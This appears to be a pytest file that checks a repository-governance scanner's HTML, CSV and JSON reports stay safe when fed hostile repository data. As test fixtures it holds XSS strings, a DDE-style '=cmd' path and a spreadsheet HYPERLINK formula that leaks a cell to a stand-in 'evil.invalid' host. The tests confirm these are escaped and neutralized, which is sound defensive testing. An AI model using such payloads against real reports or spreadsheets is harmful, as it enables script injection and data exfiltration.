"""Reports rendered from a real scan of real git repositories, some of them hostile.

The scan uses a pack of three policies so the numbers are known: the bundled
readme-present, and two test policies, `echo-verdict` and `second-verdict`, whose check
returns whatever outcome, message and location a file of the repository asks for, so
repository content reaches every report the way a real check's message would.
"""

from __future__ import annotations

import csv
import datetime as dt
import json
from dataclasses import dataclass, field
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from governance.demo import make_repo
from governance.models import Finding, Location, Outcome, Severity, Waiver
from governance.render import write_reports
from governance.render.html import render_html
from governance.render.summary import compliance_of
from governance.render.tabular import (
    CSV_COLUMNS,
    FINDING_KEYS,
    load_findings,
    neutralize,
    write_csv,
)
from governance.scan import ScanRequest, run_scan

FORMULA = '=HYPERLINK("http://evil.invalid/?leak="&A1,"click me")'
XSS = "<script>alert(1)</script>"
HOSTILE_MESSAGE = f"{FORMULA} {XSS} \"double\" 'single' & </textarea><img src=x onerror=alert(2)>"
HOSTILE_REPO = "<script>alert(1)"  # a folder name cannot hold "/", so no closing tag here
HOSTILE_README = "README.<img src=x onerror=alert(3)>.md"
HOSTILE_PATH = '=cmd|" /C calc"!A0 <script>alert(4)<\\script>.yml'
WAIVER_OWNER = "@evil =cmd"
WAIVER_REASON = "<script>alert(5)</script> vendored mirror"

_CHECK = '''
from governance.checks import CheckContext, Result
from governance.errors import Unsupported
from governance.models import Location, Outcome


def check(ctx: CheckContext) -> Result:
    outcome, message, *where = ctx.files.read_text(ctx.options["file"]).split("\\n")
    if outcome == "error":
        raise RuntimeError(message)
    if outcome == "not_available":
        raise Unsupported(message)
    locations = (Location(where[0], int(where[1]), "the payload"),) if where and where[0] else ()
    return Result(Outcome(outcome), message, locations)
'''
_POLICIES = {
    "echo-verdict": """\
id: echo-verdict
title: Echo <b>verdict</b>
severity: medium
rationale: Test policy that echoes a repository's verdict.txt.
remediation: Write "pass" in verdict.txt <em>please</em>.
options: {file: verdict.txt}
""",
    "second-verdict": """\
id: second-verdict
title: Second verdict
severity: low
rationale: Test policy that echoes a repository's second.txt.
remediation: Write "pass" in second.txt.
options: {file: second.txt}
""",
}
_PACK = """\
id: render-test
defaults: false
policies:
  readme-present: {}
  echo-verdict: {severity: high}
  second-verdict: {}
"""


def _verdict(outcome: str, message: str, path: str = "", line: int = 0) -> str:
    return f"{outcome}\n{message}\n{path}\n{line}" if path else f"{outcome}\n{message}"


REPOSITORIES: dict[str, dict[str, str]] = {
    # three passes
    "alpha": {"README.md": "# a\n", "verdict.txt": _verdict("pass", "ok"),
              "second.txt": _verdict("pass", "fine", "second.txt", 1)},
    # README passes at a hostile path; the verdicts fail, one with a hostile message
    HOSTILE_REPO: {
        HOSTILE_README: "# hostile\n",
        HOSTILE_PATH: "x: 1\n",
        "verdict.txt": _verdict("fail", HOSTILE_MESSAGE, HOSTILE_PATH, 3),
        "second.txt": _verdict("fail", "-1 is not a verdict"),
    },
    # no README (waived by the config), second passes, the verdict does not apply
    "beta": {"verdict.txt": _verdict("not_applicable", "nothing here"),
             "second.txt": _verdict("pass", "fine")},
    # README passes, second fails, the verdict's check crashes
    "gamma": {"README.md": "# g\n", "verdict.txt": _verdict("error", "boom"),
              "second.txt": _verdict("fail", "not fine")},
    # README and second pass, the verdict cannot be known
    "delta": {"README.md": "# d\n", "verdict.txt": _verdict("not_available", "no token"),
              "second.txt": _verdict("pass", "fine")},
}
POLICIES = ("echo-verdict", "readme-present", "second-verdict")


@dataclass
class Reports:
    folder: Path
    meta: dict[str, object]

    @property
    def html(self) -> str:
        return (self.folder / "report.html").read_text(encoding="utf-8")


def scan_and_render(root: Path, repositories: dict[str, dict[str, str]],
                    formats: tuple[str, ...] = ("html", "csv", "json")) -> Reports:
    """Scan `repositories` (folder name: files) with the render-test pack, write reports."""
    org = root / "acme"
    for name, files in repositories.items():
        make_repo(org / name, files)
    extra = root / "extra"
    for policy_id, definition in _POLICIES.items():
        (extra / policy_id).mkdir(parents=True)
        (extra / policy_id / "policy.yml").write_text(definition, encoding="utf-8")
        (extra / policy_id / "check.py").write_text(_CHECK, encoding="utf-8")
    (extra / "packs").mkdir()
    (extra / "packs" / "render-test.yml").write_text(_PACK, encoding="utf-8")
    config = root / "governance.yml"
    config.write_text(
        "pack: render-test\npolicy_paths: [extra]\nwaivers:\n"
        f"  - repository: beta\n    policy: readme-present\n    owner: {json.dumps(WAIVER_OWNER)}\n"
        f"    reason: {json.dumps(WAIVER_REASON)}\n    expires: 2099-12-31\n",
        encoding="utf-8",
    )
    out = root / "out"
    outcome = run_scan(ScanRequest(source=f"local:{org}", config_path=config), out)
    write_reports(outcome.spool, outcome.meta, out, formats)
    return Reports(out, dict(outcome.meta))


@pytest.fixture(scope="module")
def reports(tmp_path_factory: pytest.TempPathFactory) -> Reports:
    return scan_and_render(tmp_path_factory.mktemp("render"), REPOSITORIES)


# --- HTML -------------------------------------------------------------------------------


@dataclass
class Node:
    tag: str
    attrs: dict[str, str]
    text: list[str] = field(default_factory=list)
    children: list[Node] = field(default_factory=list)

    def all_text(self) -> str:
        return "".join(self.text) + "".join(c.all_text() for c in self.children)

    def walk(self) -> list[Node]:
        found = [self]
        for child in self.children:
            found.extend(child.walk())
        return found

    def find(self, tag: str, **attrs: str) -> list[Node]:
        return [n for n in self.walk()
                if n.tag == tag and all(n.attrs.get(k) == v for k, v in attrs.items())]


_VOID = {"meta", "link", "br", "img", "input", "hr", "wbr", "col", "source", "area", "base"}


class TreeBuilder(HTMLParser):
    """A small DOM from the stdlib parser, to assert structure instead of substrings."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.root = Node("#document", {})
        self.stack = [self.root]
        self.start_tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        node = Node(tag, {k: v or "" for k, v in attrs})
        self.start_tags.append((tag, node.attrs))
        self.stack[-1].children.append(node)
        if tag not in _VOID:
            self.stack.append(node)

    def handle_endtag(self, tag: str) -> None:
        for depth in range(len(self.stack) - 1, 0, -1):
            if self.stack[depth].tag == tag:
                del self.stack[depth:]
                return

    def handle_data(self, data: str) -> None:
        self.stack[-1].text.append(data)


def parse(html: str) -> TreeBuilder:
    builder = TreeBuilder()
    builder.feed(html)
    builder.close()
    return builder


def report_data(html: str) -> dict[str, Any]:
    """The JSON the report's script renders, as embedded in the page."""
    tree = parse(html)
    (block,) = [n for n in tree.root.find("script")
                if n.attrs.get("type") == "application/json"]
    assert block.attrs.get("id") == "report-data"
    data: dict[str, Any] = json.loads(block.all_text())
    return data


def decoded_findings(data: dict[str, Any]) -> list[dict[str, Any]]:
    """Every finding of the embedded data, expanded the way report.js reads it."""
    strings, policies, outcomes = data["strings"], data["policies"], data["outcomes"]

    def text(index: int) -> str:
        return "".join(seg[1] for seg in data["prose"][index]) if index >= 0 else ""

    found = []
    for repo, rows in zip(data["repos"], data["findings"], strict=True):
        for row in rows:
            row = row + [0, -1, -1, -1, -1][len(row) - 3:]
            policy = policies[row[0]]
            waiver = data["waivers"][row[7]] if row[7] >= 0 else None
            found.append({
                "repository": repo[0], "policy": policy["id"], "outcome": outcomes[row[1]][0],
                "message": strings[row[2]],
                "locations": [{"path": strings[p], "line": line, "note": strings[n]}
                              for p, line, n in (row[3] or [])],
                "remediation": text(row[4]),
                "severity": data["severities"][row[5]] if row[5] >= 0 else policy["severity"],
                "confidence": ["low", "medium", "high"][row[6]] if row[6] >= 0 else "high",
                "waiver": None if waiver is None else dict(zip(
                    ("owner", "reason", "expires", "repository", "policy"), waiver,
                    strict=True)),
            })
    return found


def test_html_renders_hostile_data_as_text_only(reports: Reports) -> None:
    html = reports.html
    tree = parse(html)
    # Two scripts: the data (JSON, never executed) and the report's own static script.
    scripts = tree.root.find("script")
    assert [s.attrs.get("type") for s in scripts] == ["application/json", None]
    assert "alert" not in scripts[1].all_text()
    assert tree.root.find("img") == []
    for tag, attrs in tree.start_tags:
        assert not any(name.startswith("on") for name in attrs), (tag, attrs)
        assert not attrs.get("href", "").lower().startswith("javascript"), (tag, attrs)
    for raw in ("<script>alert", "<img src=x", "</textarea><img"):
        assert raw not in html
    # The data cannot close its element, open a comment or break a JS string.
    raw_data = html.split('<script type="application/json" id="report-data">')[1]
    raw_data = raw_data.split("</script>")[0]
    for char in ("<", ">", "&", "\u2028", "\u2029"):
        assert char not in raw_data
    # ... and the hostile values are shown, verbatim, as text or in the data.
    text = tree.root.all_text()
    for value in (f"acme/{HOSTILE_REPO}", WAIVER_REASON):
        assert value in text
    titles = [attrs.get("title", "") for _, attrs in tree.start_tags]
    assert any(HOSTILE_MESSAGE in title for title in titles)  # the matrix cell's tooltip
    findings = decoded_findings(report_data(html))
    assert HOSTILE_MESSAGE in [f["message"] for f in findings]
    paths = {loc["path"] for f in findings for loc in f["locations"]}
    assert {HOSTILE_README, HOSTILE_PATH} <= paths
    assert "Echo <b>verdict</b>" in text  # policy.yml text is escaped too
    assert not any(n.all_text() == "verdict" for n in tree.root.find("b"))


@pytest.mark.parametrize("value", [
    "</script><script>alert(1)</script>", "<!-- x", "a & b", "\u2028\u2029", "bad-\udcff",
    {"</SCRIPT": ["<img src=x onerror=alert(1)>"]}, "'\"\\",
])
def test_script_json_is_inert_in_a_script_element(value: object) -> None:
    from governance.render.html import script_json

    text = script_json(value)
    for char in ("<", ">", "&", "\u2028", "\u2029"):
        assert char not in text
    assert not any("\ud800" <= c <= "\udfff" for c in text)
    assert json.loads(text) == value


def test_html_is_self_contained_and_its_csp_allows_only_its_own_blocks(
        reports: Reports) -> None:
    import base64
    import hashlib

    tree = parse(reports.html)
    for tag, attrs in tree.start_tags:  # nothing is loaded: no src, no <link>, no frames
        assert tag not in ("link", "iframe", "object", "embed", "base")
        assert "src" not in attrs and "srcset" not in attrs, (tag, attrs)
        if "href" in attrs:  # in-page anchors, and http(s) links from policy prose only
            assert tag == "a" and attrs["href"].startswith(("#", "https://", "http://"))
            assert "evil.invalid" not in attrs["href"]  # scan data is never linked
    (policy,) = [n for n in tree.root.find("meta")
                 if n.attrs.get("http-equiv") == "Content-Security-Policy"]
    csp = policy.attrs["content"]
    assert "default-src 'none'" in csp
    (script,) = [n for n in tree.root.find("script") if "type" not in n.attrs]
    (style,) = tree.root.find("style")
    for block in (script, style):
        digest = hashlib.sha256(block.all_text().encode("utf-8")).digest()
        assert f"'sha256-{base64.b64encode(digest).decode()}'" in csp, block.tag
    assert csp.count("'sha256-") == 2  # the JSON block is data: it needs no permission
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert not [a for _, a in tree.start_tags if "style" in a]  # CSP would block them


def _matrix_rows(tree: TreeBuilder) -> tuple[list[str], list[Node]]:
    (matrix,) = tree.root.find("table", **{"class": "matrix"})
    columns = [th.all_text() for th in matrix.find("thead")[0].find("th")][4:]
    return columns, matrix.find("tbody")[0].find("tr")


def test_matrix_first_page_has_a_cell_per_repository_and_policy(reports: Reports) -> None:
    from urllib.parse import quote

    tree = parse(reports.html)
    columns, rows = _matrix_rows(tree)
    assert sorted(columns) == sorted(POLICIES)
    (matrix,) = tree.root.find("table", **{"class": "matrix"})
    headings = [th.attrs.get("title", "") for th in matrix.find("thead")[0].find("th")][4:]
    assert any(h.startswith("Echo <b>verdict</b>") for h in headings)
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    outcome_of = {(f["repository"], f["policy"]): f for f in document["findings"]}
    names = [row.find("th")[0].all_text() for row in rows]
    assert sorted(names) == sorted(f"acme/{name}" for name in REPOSITORIES)
    labels = {"pass": ("o-pass", "pass"), "fail": ("o-fail", "fail"),
              "waived": ("o-wv", "waived"), "error": ("o-err", "error"),
              "not_available": ("o-nv", "not available"),
              "not_applicable": ("o-na", "not applicable")}
    for row, name in zip(rows, names, strict=True):
        (link,) = row.find("th")[0].find("a")
        assert link.attrs["href"] == "#repo=" + quote(name, safe="")
        cells = row.find("td")[3:]
        assert len(cells) == len(POLICIES)
        for policy, cell in zip(columns, cells, strict=True):
            finding = outcome_of[(name, policy)]
            cls, label = labels[finding["outcome"]]
            assert cell.attrs["class"] == f"c {cls}"
            # the outcome is text too (for screen readers), not colour alone
            assert cell.find("span", **{"class": "sr"})[0].all_text() == label
            assert cell.attrs["title"] == f"{policy}: {label} \u2014 {finding['message']}"


def test_html_compliance_numbers_for_the_known_scan(reports: Reports) -> None:
    tree = parse(reports.html)
    (overall,) = [n for n in tree.root.walk() if n.attrs.get("id") == "compliance"]
    assert overall.all_text() == "75.0%"  # 8 pass + 1 waived of 12 decided
    (repositories,) = [n for n in tree.root.walk() if n.attrs.get("id") == "repositories"]
    assert repositories.all_text() == "5"
    policy_compliance = {
        row.attrs["id"].removeprefix("p-"): row.find("td")[2].all_text().split()[0]
        for row in tree.root.find("tr") if row.attrs.get("id", "").startswith("p-")
    }
    assert policy_compliance == {"readme-present": "100.0%", "second-verdict": "60.0%",
                                 "echo-verdict": "50.0%"}
    # Policies worst first, and the matrix columns in the same order.
    assert list(policy_compliance) == ["echo-verdict", "second-verdict", "readme-present"]
    columns, rows = _matrix_rows(tree)
    assert columns == list(policy_compliance)
    table = [(r.find("th")[0].all_text(), r.find("td")[0].all_text().strip(),
              r.find("td")[1].all_text(), r.find("td")[2].all_text().strip()) for r in rows]
    assert table == [  # worst first
        (f"acme/{HOSTILE_REPO}", "33.3%", "2", "high"),
        ("acme/gamma", "50.0%", "1", "low"),
        ("acme/alpha", "100.0%", "0", "\u2014"),
        ("acme/beta", "100.0%", "0", "\u2014"),
        ("acme/delta", "100.0%", "0", "\u2014"),
    ]
    (overview,) = [n for n in tree.root.find("section") if n.attrs.get("id") == "overview"]
    worst = [r.find("th")[0].all_text() for r in overview.find("tbody")[0].find("tr")]
    assert worst == [f"acme/{HOSTILE_REPO}", "acme/gamma"]  # failing or in error only
    data = report_data(reports.html)
    assert [r[0] for r in data["repos"]] == [row[0] for row in table]
    assert [p["id"] for p in data["policies"]] == columns
    assert [r[1] for r in data["repos"]] == [33.3, 50.0, 100.0, 100.0, 100.0]


def test_html_data_holds_every_finding_with_locations_remediation_and_waivers(
        reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    data = report_data(reports.html)
    decoded = {(f["repository"], f["policy"]): f for f in decoded_findings(data)}
    assert len(decoded) == len(document["findings"]) == 15
    for finding in document["findings"]:
        mine = decoded[(finding["repository"], finding["policy"])]
        for key in ("outcome", "message", "locations", "severity", "confidence"):
            assert mine[key] == finding[key], key
        expected = finding["remediation"].strip() if finding["outcome"] == "fail" else ""
        assert mine["remediation"] == expected
        if finding["waiver"]:
            assert mine["waiver"] == {k: finding["waiver"][k] or "" for k in mine["waiver"]}
    failing = decoded[(f"acme/{HOSTILE_REPO}", "echo-verdict")]
    assert failing["locations"] == [{"path": HOSTILE_PATH, "line": 3, "note": "the payload"}]
    assert failing["remediation"] == 'Write "pass" in verdict.txt <em>please</em>.'
    policy = next(p for p in data["policies"] if p["id"] == "echo-verdict")
    assert "".join(s[1] for s in data["prose"][policy["why"]]).startswith("Test policy")
    tree = parse(reports.html)
    (waivers,) = [n for n in tree.root.find("section") if n.attrs.get("id") == "waivers"]
    (row,) = waivers.find("tbody")[0].find("tr")
    assert [c.all_text() for c in row.find("td")] == [
        "README present", WAIVER_OWNER, "2099-12-31", WAIVER_REASON]
    assert row.find("a")[0].attrs["href"] == "#repo=acme%2Fbeta"


# --- CSV --------------------------------------------------------------------------------


def test_csv_keeps_the_column_order_and_neutralizes_formulas(reports: Reports) -> None:
    text = (reports.folder / "findings.csv").read_text(encoding="utf-8")
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert len(rows) == len(document["findings"]) == len(REPOSITORIES) * len(POLICIES)
    for row, finding in zip(rows, document["findings"], strict=True):
        for column in ("repository", "policy", "outcome", "message", "path", "remediation"):
            value, original = row[column], finding[column] or ""
            assert not value.lstrip().startswith(("=", "+", "-", "@")), (column, value)
            if original.startswith(("=", "+", "-", "@")):
                assert value == "'" + original
            else:
                assert value == original  # normal text is left alone
        assert row["line"] == ("" if finding["line"] is None else str(finding["line"]))
    (hostile,) = [r for r in rows if r["policy"] == "echo-verdict" and r["outcome"] == "fail"]
    assert hostile["message"] == "'" + HOSTILE_MESSAGE
    assert hostile["path"] == "'" + HOSTILE_PATH
    assert hostile["line"] == "3"
    assert hostile["repository"] == f"acme/{HOSTILE_REPO}"
    (minus,) = [r for r in rows if r["message"].endswith("is not a verdict")]
    assert minus["message"] == "'-1 is not a verdict"
    (waived,) = [r for r in rows if r["outcome"] == "waived"]
    assert waived["waiver_owner"] == "'" + WAIVER_OWNER and waived["waiver_expires"] == "2099-12-31"


@pytest.mark.parametrize("value", [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "\0=1", " =1", "\u00a0 @x",
    "\tplain", "\rplain", "\nplain",
    "\u3000=1", "\uff1d1+1", "-",
])
def test_neutralize_prefixes_formula_starts(value: str) -> None:
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", [
    "no README found", "a = b", "README.md", "'quoted", "1+1", "", "   ", "x@y.z", 12, None,
])
def test_neutralize_leaves_other_values(value: object) -> None:
    assert neutralize(value) == value


def test_csv_line_column_stays_numeric(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    finding = Finding("acme/x", "p", Outcome.FAIL, Severity.LOW, "-5 is not a line",
                      (Location("-x.yml", 7),))
    spool.write_text(json.dumps(finding.as_dict()) + "\n", encoding="utf-8")
    write_csv(load_findings(spool), tmp_path / "findings.csv")
    (row,) = csv.DictReader((tmp_path / "findings.csv").read_text().splitlines())
    assert (row["line"], row["message"], row["path"]) == ("7", "'-5 is not a line", "'-x.yml")


# --- JSON -------------------------------------------------------------------------------


def test_json_round_trips_with_the_documented_keys(reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert list(document) == ["scan", "summary", "findings"]
    assert document["scan"] == json.loads(json.dumps(reports.meta, default=str))
    spooled = [json.loads(line) for line in
               (reports.folder / "findings.jsonl").read_text(encoding="utf-8").splitlines()]
    assert document["findings"] == spooled  # every finding exactly as the scan produced it
    assert all(list(f) == list(FINDING_KEYS) for f in document["findings"])
    summary = document["summary"]
    assert summary["compliance"] == 75.0
    assert summary["repositories"] == 5 and summary["findings"] == 15
    assert summary["failing_repositories"] == 2 and summary["decided"] == 12
    assert summary["outcomes"] == {"pass": 8, "fail": 3, "not_applicable": 1,
                                   "not_available": 1, "error": 1, "waived": 1}
    by_policy = {p["id"]: p["compliance"] for p in summary["by_policy"]}
    assert by_policy == {"echo-verdict": 50.0, "second-verdict": 60.0, "readme-present": 100.0}
    worst = summary["by_repository"][0]
    assert worst == {"repository": f"acme/{HOSTILE_REPO}", "compliance": 33.3, "failing": 2,
                     "worst_severity": "high", "outcomes": worst["outcomes"],
                     "failing_policies": ["echo-verdict", "second-verdict"]}
    hostile = next(f for f in document["findings"] if f["outcome"] == "fail"
                   and f["policy"] == "echo-verdict")
    assert hostile["message"] == HOSTILE_MESSAGE and hostile["line"] == 3


def _schema_errors(document: object) -> list[str]:
    import jsonschema

    from governance.render.tabular import findings_schema

    schema = findings_schema()
    validator = jsonschema.Draft202012Validator(
        schema, format_checker=jsonschema.Draft202012Validator.FORMAT_CHECKER)
    return [f"{list(e.absolute_path)}: {e.message}" for e in validator.iter_errors(document)]


def test_json_schema_is_shipped_in_the_package_and_is_valid() -> None:
    import jsonschema

    import governance
    from governance.render.tabular import FINDINGS_SCHEMA, findings_schema

    assert FINDINGS_SCHEMA.is_relative_to(Path(governance.__file__).resolve().parent)
    schema = findings_schema()
    assert schema["$schema"] == "https://json-schema.org/draft/2020-12/schema"
    jsonschema.Draft202012Validator.check_schema(schema)
    assert schema["$defs"]["finding"]["required"] == list(FINDING_KEYS)


def test_real_findings_json_validates_against_the_schema(reports: Reports) -> None:
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert _schema_errors(document) == []
    with_history = json.loads(json.dumps(document))  # what a scan recorded in a store adds
    with_history["scan"].update(scan_id=2, trend=[], changes={
        "scan_id": 2, "previous_scan_id": 1, "previous_started": "2026-01-01T00:00:00+00:00",
        "new_failures": [{"repository": "acme/a", "policy": "readme-present",
                          "severity": "low", "outcome": "fail", "previous_outcome": None,
                          "message": "m"}],
        "fixed": [], "new_repositories": ["acme/a"], "removed_repositories": [],
        "expired_waivers": [], "counts": {"new_failures": 1, "new_repositories": 1},
        "truncated": False})
    assert _schema_errors(with_history) == []
    # ... and the schema is not vacuous: it rejects what the documentation rules out.
    broken = json.loads(json.dumps(document))
    broken["findings"][0]["outcome"] = "maybe"
    del broken["findings"][1]["locations"]
    broken["findings"][2]["line"] = "3"
    del broken["summary"]["outcomes"]["waived"]
    broken["scan"]["partial"] = "no"
    (waived,) = [f for f in broken["findings"] if f["outcome"] == "waived"]
    waived["waiver"] = None
    waived["severity"] = "urgent"
    errors = _schema_errors(broken)
    for where in (["findings", 0, "outcome"], ["findings", 1], ["findings", 2, "line"],
                  ["summary", "outcomes"], ["scan", "partial"]):
        assert any(e.startswith(f"{where}:") for e in errors), (where, errors)
    index = broken["findings"].index(waived)
    assert any(e.startswith(f"['findings', {index}, 'waiver']") for e in errors), errors
    assert any(e.startswith(f"['findings', {index}, 'severity']") for e in errors), errors


NAMES_IN_ANY_SCRIPT = {
    "日本語のリポジトリ": "設定/ワークフロー.yml",
    "مستودع-عربي": "إعدادات/ملف.yml",
    "ελληνικά-και-emoji-🚀": "κατάλογος/αρχείο 📄.yml",
}


def test_csv_and_json_keep_names_in_any_script(tmp_path: Path) -> None:
    repositories = {
        name: {"README.md": "# r\n", path: "x: 1\n",
               "verdict.txt": _verdict("fail", f"{name} ist kaputt: {path}", path, 1),
               "second.txt": _verdict("pass", "ok")}
        for name, path in NAMES_IN_ANY_SCRIPT.items()
    }
    reports = scan_and_render(tmp_path, repositories)
    raw = (reports.folder / "findings.csv").read_bytes()
    assert not raw.startswith(b"\xef\xbb\xbf")  # no byte-order mark
    text = raw.decode("utf-8")  # strict: the file is valid UTF-8
    rows = list(csv.DictReader(text.splitlines(keepends=True)))
    failing = {r["repository"]: r for r in rows if r["outcome"] == "fail"}
    assert set(failing) == {f"acme/{name}" for name in NAMES_IN_ANY_SCRIPT}
    for name, path in NAMES_IN_ANY_SCRIPT.items():
        row = failing[f"acme/{name}"]
        assert (row["path"], row["line"]) == (path, "1")
        assert row["message"] == f"{name} ist kaputt: {path}"
        assert path.encode("utf-8") in raw  # written as UTF-8, not escaped
    document = json.loads((reports.folder / "findings.json").read_text(encoding="utf-8"))
    assert _schema_errors(document) == []
    paths = {f["repository"]: f["path"] for f in document["findings"] if f["outcome"] == "fail"}
    assert paths == {f"acme/{name}": path for name, path in NAMES_IN_ANY_SCRIPT.items()}


# --- numbers and scale ------------------------------------------------------------------


@pytest.mark.parametrize(("counts", "expected"), [
    ({"pass": 2, "fail": 1}, 66.7),
    ({"pass": 1, "waived": 1, "fail": 2, "error": 9, "not_applicable": 9}, 50.0),
    ({"pass": 9999, "fail": 1}, 99.9),  # never 100 with a failure
    ({"pass": 1, "fail": 9999}, 0.1),  # never 0 with a pass
    ({"not_applicable": 3, "error": 1}, None),
    ({}, None),
])
def test_compliance_counts_only_decided_findings(counts: dict[str, int],
                                                expected: float | None) -> None:
    assert compliance_of(counts) == expected


def _synthetic_spool(path: Path, repositories: int, policies: int) -> None:
    outcomes = list(Outcome)
    waiver = Waiver("*", "*", "legacy", "team", dt.date(2030, 1, 1))
    with path.open("w", encoding="utf-8") as out:
        for r in range(repositories):
            for p in range(policies):
                outcome = outcomes[(r * 7 + p * 3) % len(outcomes)]
                finding = Finding(
                    repository=f"acme/service-{r:04d}", policy=f"policy-{p:02d}",
                    title=f"Policy number {p}", outcome=outcome,
                    severity=list(Severity)[p % 5],
                    message=f"workflow .github/workflows/ci.yml uses an unpinned action ({r})",
                    locations=(Location(".github/workflows/ci.yml", 12),),
                    remediation="Pin every third-party action to a full commit SHA "
                    "and let Dependabot or Renovate keep the pins fresh." * 2
                    if outcome is Outcome.FAIL else "",
                    waiver=waiver if outcome is Outcome.WAIVED else None,
                )
                out.write(json.dumps(finding.as_dict()) + "\n")


def test_html_scales_to_a_thousand_repositories(tmp_path: Path) -> None:
    from governance.render.html import PAGE_SIZE

    spool = tmp_path / "findings.jsonl"
    _synthetic_spool(spool, 1000, 13)
    frame = load_findings(spool)
    html = render_html(frame, {"source": "github:acme", "repositories": 1000})
    assert len(html.encode("utf-8")) < 2_000_000  # was 7 MB with every finding as markup
    _, rows = _matrix_rows(parse(html))
    assert len(rows) == PAGE_SIZE  # the first page; the script renders the others
    data = report_data(html)
    assert len(data["repos"]) == 1000
    assert sum(len(rows) for rows in data["findings"]) == 13_000
    assert len(data["strings"]) < 1100  # messages and paths are stored once


def test_an_empty_scan_renders_every_format(tmp_path: Path) -> None:
    spool = tmp_path / "findings.jsonl"
    spool.write_text("", encoding="utf-8")
    meta = {"source": "local:/nowhere", "pack": "p", "repositories": 0,
            "policies": [{"id": "readme-present", "title": "README present", "severity": "low"}]}
    written = write_reports(spool, meta, tmp_path / "out")
    assert sorted(p.name for p in written) == ["findings.csv", "findings.json", "findings.sarif",
                                               "report.html", "summary.md"]
    document = json.loads((tmp_path / "out" / "findings.json").read_text())
    assert document["findings"] == [] and document["summary"]["compliance"] is None
    assert document["summary"]["by_policy"][0]["id"] == "readme-present"
    tree = parse((tmp_path / "out" / "report.html").read_text())
    (overall,) = [n for n in tree.root.walk() if n.attrs.get("id") == "compliance"]
    assert overall.all_text() == "n/a"
    assert (tmp_path / "out" / "findings.csv").read_text() == ",".join(CSV_COLUMNS) + "\n"


def test_policy_prose_makes_code_spans_and_only_http_links() -> None:
    from governance.render.html import Segment, prose

    assert prose("Add `permissions:` (see https://docs.example.com/x.) or javascript:alert(1)") == (
        Segment("text", "Add "), Segment("code", "permissions:"), Segment("text", " (see "),
        Segment("link", "https://docs.example.com/x"),
        Segment("text", ".) or javascript:alert(1)"),
    )
    assert prose("no `closing tick") == (Segment("text", "no `closing tick"),)
